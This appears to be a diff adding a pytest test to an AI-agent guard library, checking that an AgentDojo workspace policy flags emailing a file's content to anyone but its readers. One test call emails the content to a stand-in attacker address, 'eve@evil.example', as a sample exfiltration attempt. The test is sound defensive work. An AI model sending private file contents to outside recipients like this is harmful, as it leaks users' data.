@@ -9,6 +9,7 @@ one reader; sub-addresses, look-alike letters, invisible characters and display 
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
 import yaml
@@ -211,3 +212,19 @@ def test_a_tricked_spelling_is_never_the_reader(local: str, at: int, trick: str)
     tricked = reader[:pos] + trick + reader[pos:]
     session = _session(file={"owner": reader, "content": CONTENT})
     assert _send(session, [tricked]) == "ask"
+
+
+def test_shipped_workspace_policy_holds_files_to_their_readers() -> None:
+    """The AgentDojo workspace policy reads a file's owner and sharing map as AgentDojo returns them (YAML)."""
+    import tether
+
+    shipped = Path(tether.__file__).parent / "adapters" / "agentdojo" / "policies" / "workspace.yaml"
+    session = Guard(Policy.from_file(shipped), SQLiteStore(":memory:")).start_session("Send the budget file to my colleague")
+    d = session.check("get_file_by_id", {"file_id": "7"})
+    session.record_result(d.call_id, yaml.safe_dump(FILE))
+    # Recipients grounded in trusted data are the existing rule's business; the readers rule adds: the
+    # content may go to the file's readers only, whatever else the call does.
+    reasons = session.check("send_email", {"recipients": ["eve@evil.example"], "subject": "plan", "body": CONTENT}).reasons
+    assert any(r.rule == "readers.outside" for r in reasons)
+    reasons = session.check("send_email", {"recipients": ["alice@corp.example"], "subject": "plan", "body": CONTENT}).reasons
+    assert not any(r.rule == "readers.outside" for r in reasons)
